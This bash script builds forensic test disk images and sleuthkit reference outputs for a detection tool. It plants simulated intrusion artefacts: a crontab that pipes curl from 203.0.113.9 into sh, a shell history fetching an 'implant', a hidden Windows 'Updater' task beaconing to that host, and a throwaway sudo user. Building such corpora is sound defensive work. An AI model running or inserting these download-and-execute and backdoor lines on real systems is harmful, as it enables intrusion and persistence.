#!/usr/bin/env bash
# Build the test corpus with real tools and record sleuthkit's view of each image.
# Run as root on a machine with FUSE:  sudo bash corpus/build.sh
# Outputs corpus/images/NAME.img.zst, NAME.fls.txt, NAME.sha256.txt (see lib.sh).
source "$(dirname "$0")/lib.sh"
cd "$WORK"
trap 'umount "$MNT" 2>/dev/null || true' EXIT

text() { # text N: N lines of compressible, line-numbered text
  seq 1 "$1" | sed 's/^/foothold corpus line /'
}

# ---------------------------------------------------------------- NTFS, every feature
build_ntfs() {
  local img=$WORK/ntfs.img
  rm -f "$img"; truncate -s 48M "$img"
  mkntfs -q -F -L FOOTHOLD-NTFS -c 4096 "$img" 2>/dev/null
  ntfs_mount "$img"
  # A Windows-like tree with a task file.
  mkdir -p "$MNT/Windows/System32/Tasks/Microsoft/Windows/Defrag" "$MNT/Windows/Tasks"
  printf 'task xml placeholder for the filesystem tests\n' >"$MNT/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag"
  # Resident and non-resident files.
  printf 'hello' >"$MNT/small.txt"
  text 4000 >"$MNT/medium.txt"
  # LZNT1-compressed folder.
  mkdir "$MNT/comp"
  setfattr -n system.ntfs_attrib_be -v 0x00000800 "$MNT/comp"
  text 30000 >"$MNT/comp/compressed.txt"
  head -c 70000 /dev/urandom >"$MNT/comp/incompressible.bin"
  { text 2000; head -c 20000 /dev/zero; text 2000; } >"$MNT/comp/mixed.txt"
  # Alternate data streams.
  printf 'visible\n' >"$MNT/ads.txt"
  printf 'hidden payload\n' >"$MNT/ads.txt:hidden"
  text 2000 >"$MNT/ads.txt:big"
  # Sparse file.
  truncate -s 10M "$MNT/sparse.bin"
  printf 'in the middle' | dd of="$MNT/sparse.bin" bs=1 seek=5000000 conv=notrunc status=none
  # Unicode and odd names.
  mkdir -p "$MNT/ünïcødé/папка"
  printf 'unicode\n' >"$MNT/ünïcødé/папка/файл.txt"
  printf 'braces\n' >"$MNT/name with spaces {braces}.txt"
  printf 'sid\n' >"$MNT/S-1-5-21-1111-2222-3333-1001"
  # Large directory (B-tree index with INDEX_ALLOCATION).
  mkdir "$MNT/bigdir"
  for i in $(seq 1 3000); do printf '%s\n' "$i" >"$MNT/bigdir/file_$i.txt"; done
  # Hard link and symlink.
  ln "$MNT/small.txt" "$MNT/hardlink.txt"
  ln -s small.txt "$MNT/symlink.txt"
  # Deleted file: its record stays, unallocated.
  printf 'I was here\n' >"$MNT/deleted.txt"
  sync; rm "$MNT/deleted.txt"
  # $DATA split across records through $ATTRIBUTE_LIST: fragment free space, then write.
  mkdir "$MNT/frag"
  for i in $(seq 1 2400); do head -c 4096 /dev/zero | tr '\0' 'x' >"$MNT/frag/f$i"; done
  dd if=/dev/zero of="$MNT/frag/filler" bs=1M status=none 2>/dev/null || true   # fill the volume
  sync
  for i in $(seq 1 2 2400); do rm "$MNT/frag/f$i"; done
  sync
  text 300000 >"$WORK/long.txt"
  head -c 4500000 "$WORK/long.txt" >"$MNT/fragmented.txt"
  ntfs_umount
  store "$img" ntfs-features
  expect "$img" ntfs-features
}

# ---------------------------------------------------------------- ext4 with htree, symlinks, deleted
build_ext4() {
  local root=$WORK/ext4root img=$WORK/ext4.img
  rm -rf "$root" "$img"; mkdir -p "$root/etc/cron.d" "$root/var/spool/cron/crontabs" "$root/big" "$root/deep/a/b/c/d/e"
  printf '# /etc/crontab\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$root/etc/crontab"
  printf '*/5 * * * * root /usr/local/bin/beacon.sh\n' >"$root/etc/cron.d/beacon"
  printf '@reboot /tmp/.x/run\n' >"$root/var/spool/cron/crontabs/alice"
  printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' >"$root/etc/passwd"
  for i in $(seq 1 2000); do printf '%s\n' "$i" >"$root/big/entry_with_a_long_name_$i"; done
  text 200000 >"$root/large.txt"
  truncate -s 8M "$root/sparse.bin"; printf 'mid' | dd of="$root/sparse.bin" bs=1 seek=4000000 conv=notrunc status=none
  ln -s /etc/crontab "$root/fastlink"
  ln -s "$(printf 'x%.0s' $(seq 1 100))/target/that/is/long/enough/to/need/a/block" "$root/slowlink"
  printf 'deep\n' >"$root/deep/a/b/c/d/e/file"
  printf 'unicode\n' >"$root/ünïcødé файл.txt"
  printf 'delete me\n' >"$root/deleted.txt"
  mke2fs -q -t ext4 -L FOOTHOLD-EXT4 -d "$root" "$img" 64M
  e2fsck -fyD "$img" >/dev/null 2>&1 || true   # index large directories (htree)
  debugfs -w -R "rm /deleted.txt" "$img" >/dev/null 2>&1
  store "$img" ext4-features
  expect "$img" ext4-features
}

# ---------------------------------------------------------------- ext4 inline_data
build_inline() {
  local root=$WORK/inlroot img=$WORK/inline.img
  rm -rf "$root" "$img"; mkdir -p "$root/dir/sub" "$root/empty"
  printf 'tiny\n' >"$root/tiny.txt"
  printf '%0100d\n' 7 >"$root/hundred.txt"     # > 60 bytes: spills into system.data
  for i in 1 2 3; do printf '%s\n' "$i" >"$root/dir/f$i"; done
  text 100 >"$root/dir/sub/notinline.txt"
  mke2fs -q -t ext4 -O inline_data -L INLINE -d "$root" "$img" 16M
  store "$img" ext4-inline
  expect "$img" ext4-inline
}

# ---------------------------------------------------------------- ext2 and ext3 (block maps, indirect blocks)
build_ext23() {
  local root=$WORK/e2root
  rm -rf "$root"; mkdir -p "$root/d"
  text 400000 >"$root/d/large.txt"                  # ~10 MiB: double indirect with 1 KiB blocks
  printf 'small\n' >"$root/small.txt"
  ln -s d/large.txt "$root/link"
  for t in ext2 ext3; do
    local img=$WORK/$t.img; rm -f "$img"
    mke2fs -q -t $t -b 1024 -L "FOOTHOLD-${t^^}" -d "$root" "$img" 24M
    store "$img" $t-blockmap
    expect "$img" $t-blockmap
  done
}

# ---------------------------------------------------------------- GPT: ESP (FAT) + NTFS + ext4
build_gpt() {
  local img=$WORK/gpt.img
  rm -f "$img"; truncate -s 64M "$img"
  sgdisk -n 1:1M:+8M -t 1:ef00 -c 1:"EFI system partition" \
            -n 2:0:+24M -t 2:0700 -c 2:"Basic data partition" \
            -n 3:0:0 -t 3:8300 -c 3:"linux root" "$img" >/dev/null
  local esp=$WORK/esp.img nt=$WORK/gptntfs.img ex=$WORK/gptext.img root=$WORK/gptroot
  rm -f "$esp" "$nt" "$ex"; truncate -s 8M "$esp"; mkfs.vfat -n ESP "$esp" >/dev/null
  truncate -s 24M "$nt"; mkntfs -q -F -L GPT-NTFS "$nt" 2>/dev/null
  ntfs_mount "$nt"; mkdir -p "$MNT/Windows/System32"; printf 'win\n' >"$MNT/Windows/System32/marker.txt"; ntfs_umount
  rm -rf "$root"; mkdir -p "$root/etc"; printf 'PRETTY_NAME="Foothold Test Linux"\n' >"$root/etc/os-release"
  mke2fs -q -t ext4 -L GPT-EXT4 -d "$root" "$ex" 30M
  dd if="$esp" of="$img" bs=1M seek=1 conv=notrunc,sparse status=none
  dd if="$nt" of="$img" bs=1M seek=9 conv=notrunc,sparse status=none
  dd if="$ex" of="$img" bs=1M seek=33 conv=notrunc,sparse status=none
  store "$img" gpt-disk
  expect "$img" gpt-disk
}

# ---------------------------------------------------------------- LVM2 on GPT
# Two GPT partitions (type 8E00), each a physical volume of the volume group `vg0` (pvcreate,
# vgcreate with 1 MiB extents); `root` a linear LV in two segments (6 MiB on the first PV,
# extended by 4 MiB on the second), `data` striped over both (2 stripes of 64 KiB). (A raid1,
# thin or cache LV cannot be made here: lvm2 needs device-mapper for them.) lvm2 runs without device-mapper
# (`--driverloaded n`: nothing is activated), so the filesystems (mke2fs -d) are written into
# the extents that `lvs --segments` reports, striped as dm-stripe lays them out. Oracles:
# lvm-disk.lvs.txt (what `lvs` says: VG, LV, size, segment type), lvm-disk.lv.sha256.txt (the
# SHA-256 of each LV's filesystem image) and lvm-disk.fls.txt (`fls -r -p -l` of each).
# Needs lvm2 and loop devices; run as root.
build_lvm() {
  local img=$WORK/lvm.img root=$WORK/lvmroot data=$WORK/lvmdata
  export LVM_SUPPRESS_FD_WARNINGS=1
  local L=(--driverloaded n -q)
  rm -f "$img"; truncate -s 48M "$img"
  sgdisk -n 1:1M:+20M -t 1:8e00 -c 1:"lvm-a" -n 2:0:+20M -t 2:8e00 -c 2:"lvm-b" "$img" >/dev/null
  local a b s1 s2
  s1=$(( $(sgdisk -i 1 "$img" | awk '/First sector/ {print $3}') * 512 ))
  s2=$(( $(sgdisk -i 2 "$img" | awk '/First sector/ {print $3}') * 512 ))
  a=$(losetup -f --show -o "$s1" --sizelimit $((20 << 20)) "$img")
  b=$(losetup -f --show -o "$s2" --sizelimit $((20 << 20)) "$img")
  pvcreate "${L[@]}" "$a" "$b" >/dev/null 2>&1
  vgcreate "${L[@]}" -s 1M vg0 "$a" "$b" >/dev/null 2>&1
  lvcreate "${L[@]}" -an -Zn -L 6M -n root vg0 "$a" >/dev/null 2>&1
  lvextend "${L[@]}" -L +4M vg0/root "$b" >/dev/null 2>&1
  lvcreate "${L[@]}" -an -Zn -i 2 -I 64k -L 8M -n data vg0 >/dev/null 2>&1
  lvs "${L[@]}" --noheadings --units b --nosuffix -o vg_name,lv_name,lv_size,segtype vg0 2>/dev/null \
    | awk '{print $1, $2, $3, $4}' | sort -u >"$OUT/lvm-disk.lvs.txt"
  local pe_start ext
  pe_start=$(pvs "${L[@]}" --noheadings --units b --nosuffix -o pe_start "$a" 2>/dev/null | tr -d ' ')
  ext=$(vgs "${L[@]}" --noheadings --units b --nosuffix -o vg_extent_size vg0 2>/dev/null | tr -d ' ')
  # The filesystems.
  rm -rf "$root" "$data"; mkdir -p "$root" "$data/srv"
  debian_tree "$root"; echo lvm-host >"$root/etc/hostname"
  for i in $(seq 1 40); do text 200 >"$data/srv/file$i.txt"; done
  mke2fs -q -t ext4 -L lvm-root -d "$root" "$WORK/lv-root.img" 10M
  mke2fs -q -t ext4 -L lvm-data -d "$data" "$WORK/lv-data.img" 8M
  # pv_off DEV PE: the byte offset in the disk image of physical extent PE of the PV on DEV.
  pv_off() { local base; [ "$1" = "$a" ] && base=$s1 || base=$s2; echo $(( base + pe_start + $2 * ext )); }
  # Linear segments: each range of the LV's extents to its PV's extents.
  local le=0 seg dev range first last
  while read -r seg; do
    dev=${seg%%:*}; range=${seg#*:}; first=${range%-*}; last=${range#*-}
    dd if="$WORK/lv-root.img" of="$img" iflag=skip_bytes,count_bytes oflag=seek_bytes bs=64K skip=$(( le * ext )) \
      seek="$(pv_off "$dev" "$first")" count=$(( (last - first + 1) * ext )) conv=notrunc status=none
    le=$(( le + last - first + 1 ))
  done < <(lvs "${L[@]}" --noheadings --segments -o seg_pe_ranges vg0/root 2>/dev/null | tr -d ' ')
  # Striped: chunk k of the LV is chunk k/2 of stripe k%2.
  local ranges chunk=65536 stripes=() starts=() k n
  ranges=$(lvs "${L[@]}" --noheadings --segments -o seg_pe_ranges vg0/data 2>/dev/null | xargs)
  for r in $ranges; do stripes+=("${r%%:*}"); range=${r#*:}; starts+=("${range%-*}"); done
  n=$(( $(stat -c %s "$WORK/lv-data.img") / chunk ))
  for k in $(seq 0 $(( n - 1 ))); do
    local st=$(( k % ${#stripes[@]} )) row=$(( k / ${#stripes[@]} ))
    dd if="$WORK/lv-data.img" of="$img" iflag=skip_bytes,count_bytes oflag=seek_bytes bs=$chunk \
      skip=$(( k * chunk )) seek=$(( $(pv_off "${stripes[$st]}" "${starts[$st]}") + row * chunk )) count=$chunk \
      conv=notrunc status=none
  done
  # What sleuthkit sees in each LV's filesystem image, under the volume number foothold gives
  # the LV (after the two partitions), as `expect` records partitions.
  : >"$OUT/lvm-disk.lv.sha256.txt"; : >"$OUT/lvm-disk.fls.txt"; : >"$OUT/lvm-disk.sha256.txt"
  local num=3
  for lv in root data; do
    local f=$WORK/lv-$lv.img
    printf '%s  vg0/%s\n' "$(sha256sum <"$f" | cut -d' ' -f1)" "$lv" >>"$OUT/lvm-disk.lv.sha256.txt"
    echo "## volume $num offset 0" >>"$OUT/lvm-disk.fls.txt"
    fls -r -p -l "$f" >>"$OUT/lvm-disk.fls.txt"
    fls -r -p -F "$f" | while IFS=$'\t' read -r meta path; do
      addr=${meta##* }; addr=${addr%:}
      case "$meta" in *'*'*) continue ;; esac
      printf '%s\t%s\t%s\t%s\n' "$num" "$addr" "$(icat "$f" "$addr" | sha256sum | cut -d' ' -f1)" "$path" >>"$OUT/lvm-disk.sha256.txt"
    done
    num=$((num + 1))
  done
  # Detach (never vgremove: it would wipe the image's metadata); forget lvm2's host backups.
  losetup -d "$a" "$b"
  rm -f /etc/lvm/backup/vg0 /etc/lvm/archive/vg0_*
  store "$img" lvm-disk
}

# ---------------------------------------------------------------- LVM2 kinds foothold refuses
# A whole disk as one PV (no partition table) of `vgk`: `root` a linear LV holding an ext4
# root; `cpool` a cache pool made by lvcreate; a thin pool `pool` with a thin LV `thin`, and a
# raid1 LV `r1`, which lvcreate cannot make here (they need device-mapper): their sub-LVs
# are made by lvcreate as linear LVs, and lvm_kinds.py edits the vgcfgbackup into the
# thin-pool/thin/raid1 layout that vgcfgrestore then checks and writes. Oracle:
# lvm-kinds.lvs.txt (`lvs` of the visible LVs: VG, LV, size, segment type) and
# lvm-kinds.lv.sha256.txt (the SHA-256 of the root LV's filesystem).
build_lvm_kinds() {
  local img=$WORK/lvmk.img root=$WORK/lvmkroot
  export LVM_SUPPRESS_FD_WARNINGS=1
  local L=(--driverloaded n -q)
  rm -f "$img"; truncate -s 64M "$img"
  local a; a=$(losetup -f --show "$img")
  pvcreate "${L[@]}" "$a" >/dev/null 2>&1
  vgcreate "${L[@]}" -s 1M vgk "$a" >/dev/null 2>&1
  lvcreate "${L[@]}" -an -Zn -L 10M -n root vgk >/dev/null 2>&1
  lvcreate "${L[@]}" --type cache-pool -an -L 4M -n cpool vgk >/dev/null 2>&1
  local n
  for n in xtdata:8 xtmeta:2 xrmeta0:1 xrimage0:4 xrmeta1:1 xrimage1:4; do
    lvcreate "${L[@]}" -an -Zn -L "${n#*:}M" -n "${n%:*}" vgk >/dev/null 2>&1
  done
  vgcfgbackup "${L[@]}" -f "$WORK/vgk.vg" vgk >/dev/null 2>&1
  python3 "$HERE/lvm_kinds.py" "$WORK/vgk.vg" "$WORK/vgk-kinds.vg"
  vgcfgrestore "${L[@]}" --force -f "$WORK/vgk-kinds.vg" vgk >/dev/null 2>&1
  lvs "${L[@]}" --noheadings --units b --nosuffix -o vg_name,lv_name,lv_size,segtype vgk 2>/dev/null \
    | awk '{print $1, $2, $3, $4}' | sort -u >"$OUT/lvm-kinds.lvs.txt"
  grep -q ' thin-pool$' "$OUT/lvm-kinds.lvs.txt" && grep -q ' raid1$' "$OUT/lvm-kinds.lvs.txt" \
    && grep -q ' cache-pool$' "$OUT/lvm-kinds.lvs.txt" && grep -q ' thin$' "$OUT/lvm-kinds.lvs.txt"
  local pe_start ext
  pe_start=$(pvs "${L[@]}" --noheadings --units b --nosuffix -o pe_start "$a" 2>/dev/null | tr -d ' ')
  ext=$(vgs "${L[@]}" --noheadings --units b --nosuffix -o vg_extent_size vgk 2>/dev/null | tr -d ' ')
  local range; range=$(lvs "${L[@]}" --noheadings --segments -o seg_pe_ranges vgk/root 2>/dev/null | tr -d ' ')
  range=${range#*:}
  rm -rf "$root"; mkdir -p "$root/etc" "$root/var/spool/cron/crontabs"; echo lvm-kinds-host >"$root/etc/hostname"
  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n' >"$root/etc/os-release"
  printf 'SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n' >"$root/etc/crontab"
  mke2fs -q -t ext4 -L lvmk-root -d "$root" "$WORK/lvk-root.img" 10M
  dd if="$WORK/lvk-root.img" of="$img" bs=64K oflag=seek_bytes seek=$(( pe_start + ${range%-*} * ext )) \
    conv=notrunc status=none
  printf '%s  vgk/root\n' "$(sha256sum <"$WORK/lvk-root.img" | cut -d' ' -f1)" >"$OUT/lvm-kinds.lv.sha256.txt"
  losetup -d "$a"
  rm -f /etc/lvm/backup/vgk /etc/lvm/archive/vgk_*
  store "$img" lvm-kinds
}

# ---------------------------------------------------------------- MBR: primary ext4, extended with logical NTFS and ext2
build_mbr() {
  local img=$WORK/mbr.img
  rm -f "$img"; truncate -s 48M "$img"
  printf 'label: dos\nstart=2048, size=20480, type=83\nstart=22528, type=5\nstart=24576, size=24576, type=7\nstart=51200, size=40960, type=83\n' | sfdisk -q "$img"
  local a=$WORK/m1.img b=$WORK/m5.img c=$WORK/m6.img root=$WORK/mbrroot
  rm -rf "$root" "$a" "$b" "$c"; mkdir -p "$root/etc"; printf 'root:x:0:0::/root:/bin/sh\n' >"$root/etc/passwd"
  mke2fs -q -t ext4 -L MBR-P1 -d "$root" "$a" 10M
  truncate -s 12M "$b"; mkntfs -q -F -L MBR-LOGICAL "$b" 2>/dev/null
  ntfs_mount "$b"; printf 'logical\n' >"$MNT/in-logical.txt"; ntfs_umount
  mke2fs -q -t ext2 -L MBR-L6 -d "$root" "$c" 20M
  dd if="$a" of="$img" bs=512 seek=2048 conv=notrunc,sparse status=none
  dd if="$b" of="$img" bs=512 seek=24576 conv=notrunc,sparse status=none
  dd if="$c" of="$img" bs=512 seek=51200 conv=notrunc,sparse status=none
  store "$img" mbr-logical
  expect "$img" mbr-logical
}

# ---------------------------------------------------------------- ext4 with a directory cycle (hostile)
build_cycle() {
  local root=$WORK/cycroot img=$WORK/cycle.img
  rm -rf "$root" "$img"; mkdir -p "$root/a/b"; printf 'x\n' >"$root/a/b/file"
  mke2fs -q -t ext4 -L CYCLE -d "$root" "$img" 8M
  debugfs -w -R "link /a /a/b/loop" "$img" >/dev/null 2>&1   # a hard link to a directory: /a/b/loop -> /a
  store "$img" ext4-cycle
  expect "$img" ext4-cycle
}

# ---------------------------------------------------------------- Linux layouts for the cron scanner
build_linux_debian() {
  local root=$WORK/debroot img=$WORK/debian.img
  rm -rf "$root" "$img"; mkdir -p "$root"
  debian_tree "$root"
  mke2fs -q -t ext4 -L debian-root -d "$root" "$img" 16M
  store "$img" linux-debian
  expect "$img" linux-debian
}

build_linux_rhel() {
  local root=$WORK/rhelroot img=$WORK/rhel.img part=$WORK/rhel-p1.img swap=$WORK/rhel-swap.img
  rm -rf "$root" "$img" "$part" "$swap"
  mkdir -p "$root/etc/cron.d" "$root/etc/cron.hourly" "$root/var/spool/cron" "$root/var/spool/at" "$root/var/spool/anacron" "$root/usr/lib/systemd/system"
  printf 'root:x:0:0:root:/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n' >"$root/etc/passwd"
  printf 'NAME="Red Hat Enterprise Linux"\nPRETTY_NAME="Red Hat Enterprise Linux 9.4 (Plow)"\n' >"$root/etc/os-release"
  printf 'SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n' >"$root/etc/cron.d/0hourly"
  printf '*/2 * * * * python3 -c "import socket,os;s=socket.socket()" # beacon\n' >"$root/var/spool/cron/bob"
  printf 'SHELL=/bin/sh\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\nRANDOM_DELAY=45\nSTART_HOURS_RANGE=3-22\n\n1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n7\t25\tcron.weekly\t\tnice run-parts /etc/cron.weekly\n@monthly 45\tcron.monthly\t\tnice run-parts /etc/cron.monthly\n' >"$root/etc/anacrontab"
  printf '#!/usr/bin/sh\n# Check whether 0anacron was run today already\nif test -r /var/spool/anacron/cron.daily; then\n    day=`cat /var/spool/anacron/cron.daily`\nfi\n/usr/sbin/anacron -s\n' >"$root/etc/cron.hourly/0anacron"; chmod 755 "$root/etc/cron.hourly/0anacron"
  local spool; spool=$(at_job a '/tmp/.hidden/run --once')
  cp "$spool" "$root/var/spool/at/"; rm -f "$spool"
  printf '[Unit]\nDescription=Discard unused blocks once a week\n\n[Timer]\nOnCalendar=weekly\nAccuracySec=1h\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n' >"$root/usr/lib/systemd/system/fstrim.timer"
  printf '[Service]\nType=oneshot\nExecStart=/usr/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported\n' >"$root/usr/lib/systemd/system/fstrim.service"
  mke2fs -q -t ext4 -L rhel-root -d "$root" "$part" 16M
  truncate -s 4M "$swap"; mkswap -q "$swap" >/dev/null
  truncate -s 24M "$img"
  printf 'label: dos\nstart=2048, size=32768, type=83\nstart=34816, size=8192, type=82\n' | sfdisk -q "$img"
  dd if="$part" of="$img" bs=512 seek=2048 conv=notrunc,sparse status=none
  dd if="$swap" of="$img" bs=512 seek=34816 conv=notrunc,sparse status=none
  store "$img" linux-rhel
  expect "$img" linux-rhel
}

# ---------------------------------------------------------------- Linux logons, sudo, account changes and shell histories
# Everything here was written by the real programs on this machine: rsyslogd (imuxsock) logs
# what sshd (key logon over loopback, an invalid user), sudo, useradd/usermod/chpasswd and
# crontab sent to syslog, in rsyslog's default RFC 3339 format (auth.log) and in the
# traditional year-less one (secure); bash and zsh write their own history files. The step
# adds the user mallory to this machine and removes it again; run it as root on a scratch box.
build_linux_auth() {
  local root=$WORK/authroot img=$WORK/auth.img logs=$WORK/authlogs k=$WORK/sshkeys
  rm -rf "$root" "$img" "$logs" "$k"; mkdir -p "$logs" "$k" /run/sshd
  cat >"$logs/rsyslog.conf" <<EOF
module(load="imuxsock")
auth,authpriv.* action(type="omfile" file="$logs/auth.log")
auth,authpriv.* action(type="omfile" file="$logs/secure" template="RSYSLOG_TraditionalFileFormat")
cron.* action(type="omfile" file="$logs/syslog")
EOF
  rsyslogd -f "$logs/rsyslog.conf" -i "$logs/rsyslog.pid"; sleep 1
  useradd -m -u 1337 -s /bin/bash -c "Mallory,,," mallory
  usermod -aG sudo mallory
  echo 'mallory:corpus-only-not-a-secret' | chpasswd
  ssh-keygen -q -t ed25519 -N '' -f "$k/host"; ssh-keygen -q -t ed25519 -N '' -C mallory@corpus -f "$k/id"
  install -d -m 700 -o mallory -g mallory /home/mallory/.ssh
  install -m 600 -o mallory -g mallory "$k/id.pub" /home/mallory/.ssh/authorized_keys
  /usr/sbin/sshd -f /dev/null -h "$k/host" -p 2222 -o ListenAddress=127.0.0.1 -o PidFile="$k/sshd.pid" -o UsePAM=yes
  sleep 1
  local ssh=(ssh -q -i "$k/id" -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes)
  "${ssh[@]}" ghost@127.0.0.1 true || true          # Invalid user
  "${ssh[@]}" root@127.0.0.1 true || true           # key not accepted for root
  # mallory logs on with her key, installs a crontab, runs sudo without and with her password,
  # and has root install a crontab for root through sudo.
  "${ssh[@]}" mallory@127.0.0.1 'printf "*/5 * * * * curl -s -m 1 http://203.0.113.9/x | sh\n" | crontab -; sudo -n true' || true
  "${ssh[@]}" mallory@127.0.0.1 "echo corpus-only-not-a-secret | sudo -S -p '' sh -c 'echo \"@reboot /var/tmp/.u/agent\" | crontab -u root -'"
  # Her interactive shells: bash with HISTTIMEFORMAT (timestamps in the file), zsh with
  # EXTENDED_HISTORY.
  "${ssh[@]}" mallory@127.0.0.1 'HISTTIMEFORMAT="%F %T " HISTFILE=~/.bash_history bash -i' <<'EOF' >/dev/null 2>&1 || true
id
curl -s -m 1 http://203.0.113.9/implant -o /var/tmp/.implant
chmod +x /var/tmp/.implant
crontab -l
EOF
  "${ssh[@]}" mallory@127.0.0.1 'zsh -f -i' <<'EOF' >/dev/null 2>&1 || true
HISTFILE=~/.zsh_history; SAVEHIST=100; HISTSIZE=100; setopt EXTENDED_HISTORY INC_APPEND_HISTORY
uname -a
rm -f /var/tmp/.implant
exit
EOF
  # root's shell: no HISTTIMEFORMAT, so no timestamps.
  env -u HISTTIMEFORMAT HISTFILE="$logs/root_history" bash -i <<'EOF' >/dev/null 2>&1 || true
last -n 3
cat /var/log/auth.log
EOF
  sleep 1
  kill "$(cat "$k/sshd.pid")" || true
  mkdir -p "$root/etc" "$root/var/log" "$root/var/spool/cron/crontabs" "$root/root" "$root/home"
  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' >"$root/etc/os-release"
  getent passwd root mallory >"$root/etc/passwd"
  getent group root sudo mallory >"$root/etc/group"
  cp -a /home/mallory "$root/home/"; rm -rf "$root/home/mallory/.ssh"
  cp -a /var/spool/cron/crontabs/mallory /var/spool/cron/crontabs/root "$root/var/spool/cron/crontabs/"
  cp "$logs/root_history" "$root/root/.bash_history"
  kill "$(cat "$logs/rsyslog.pid")"; sleep 1
  cp "$logs/auth.log" "$logs/secure" "$logs/syslog" "$root/var/log/"
  rm -f /var/spool/cron/crontabs/mallory /var/spool/cron/crontabs/root /dev/log
  userdel -r mallory 2>/dev/null || true
  mke2fs -q -t ext4 -L auth-root -d "$root" "$img" 16M
  store "$img" linux-auth
  expect "$img" linux-auth
}

# ---------------------------------------------------------------- Windows scheduled tasks on NTFS
build_windows_tasks() {
  local img=$WORK/wintasks.img tree=$WORK/wintree
  rm -rf "$tree" "$img"; mkdir -p "$tree"
  python3 "$HERE/windows_tasks.py" "$tree" 200
  mkdir -p "$tree/Windows/System32/config"
  python3 "$HERE/task_cache.py" "$tree/Windows/System32/config/SOFTWARE"
  python3 "$HERE/system_hive.py" "$tree/Windows/System32/config/SYSTEM"
  truncate -s 32M "$img"; mkntfs -q -F -L Windows "$img" 2>/dev/null
  ntfs_mount "$img"
  cp -r "$tree/Windows" "$MNT/"
  ntfs_umount
  store "$img" windows-tasks
  expect "$img" windows-tasks
}

# ---------------------------------------------------------------- a shadow copy holding a task removed after it
# A GPT disk whose NTFS partition has one Volume Shadow Copy store (corpus/vss_store.py): the
# snapshot holds the backdoor task `\Updater`, deleted from the live volume afterwards.
build_windows_vss() {
  local img=$WORK/winvss.img vol=$WORK/winvss-vol.img tree=$WORK/winvsstree
  rm -rf "$tree" "$img" "$vol" "$vol".*; mkdir -p "$tree"
  python3 "$HERE/windows_tasks.py" "$tree" 20
  mkdir -p "$tree/Windows/System32/config"
  python3 "$HERE/task_cache.py" "$tree/Windows/System32/config/SOFTWARE"
  python3 "$HERE/system_hive.py" "$tree/Windows/System32/config/SYSTEM"
  truncate -s 32M "$vol"; mkntfs -q -F -L Windows "$vol" 2>/dev/null
  ntfs_mount "$vol"
  cp -r "$tree/Windows" "$MNT/"
  python3 - "$MNT/Windows/System32/Tasks/Updater" <<'PY'
import sys
xml = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2026-11-29T23:14:05</Date>
    <Author>CORP\\mallory</Author>
    <URI>\\Updater</URI>
  </RegistrationInfo>
  <Triggers><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition><StartBoundary>2026-11-29T23:15:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>C:\\Users\\Public\\svchost.exe</Command><Arguments>-connect 203.0.113.9:443</Arguments></Exec></Actions>
</Task>
"""
open(sys.argv[1], "wb").write(b"\xff\xfe" + xml.replace("\n", "\r\n").encode("utf-16-le"))
PY
  ntfs_umount
  cp "$vol" "$vol.before"
  ntfs_mount "$vol"
  rm "$MNT/Windows/System32/Tasks/Updater"
  ntfs_umount
  python3 "$HERE/vss_store.py" "$vol.before" "$vol" "$vol.vss"
  truncate -s 40M "$img"
  sgdisk -n 1:2048:+32M -t 1:0700 -c 1:Windows "$img" >/dev/null
  dd if="$vol.vss" of="$img" bs=512 seek=2048 conv=notrunc,sparse status=none
  store "$img" windows-vss
  expect "$img" windows-vss
}

# ---------------------------------------------------------------- volumes foothold names but does not read
# Needs xfsprogs btrfs-progs cryptsetup-bin exfatprogs lvm2 (and a loop device for pvcreate).
build_other_fs() {
  local img=$WORK/otherfs.img
  rm -f "$img" "$WORK"/o-*.img
  truncate -s 300M "$WORK/o-xfs.img"; mkfs.xfs -q -L XFSVOL "$WORK/o-xfs.img"
  truncate -s 120M "$WORK/o-btrfs.img"; mkfs.btrfs -q -L BTRVOL "$WORK/o-btrfs.img" >/dev/null
  truncate -s 20M "$WORK/o-luks.img"
  printf 'corpus-only-passphrase' | cryptsetup luksFormat --batch-mode --type luks1 --key-size 256 --pbkdf-force-iterations 1000 "$WORK/o-luks.img" -
  truncate -s 8M "$WORK/o-exfat.img"; mkfs.exfat -L EXVOL "$WORK/o-exfat.img" >/dev/null
  truncate -s 8M "$WORK/o-lvm.img"
  local loop; loop=$(losetup -f --show "$WORK/o-lvm.img"); pvcreate -q "$loop"; losetup -d "$loop"
  truncate -s 4M "$WORK/o-swap.img"; mkswap -q "$WORK/o-swap.img" >/dev/null
  truncate -s 470M "$img"
  sgdisk -n 1:1M:+300M -t 1:8300 -n 2:0:+120M -t 2:8300 -n 3:0:+20M -t 3:8309 -n 4:0:+8M -t 4:0700 \
         -n 5:0:+8M -t 5:8e00 -n 6:0:+4M -t 6:8200 "$img" >/dev/null
  local n=1
  for part in xfs btrfs luks exfat lvm swap; do
    local start; start=$(sgdisk -i "$n" "$img" | awk '/First sector/ {print $3}')
    dd if="$WORK/o-$part.img" of="$img" bs=512 seek="$start" conv=notrunc,sparse status=none
    n=$((n + 1))
  done
  store "$img" other-fs
}

# ---------------------------------------------------------------- containers of the GPT disk
# The same disk in every container format, made by the real tools (qemu-img, qemu-io, ewfacquire).
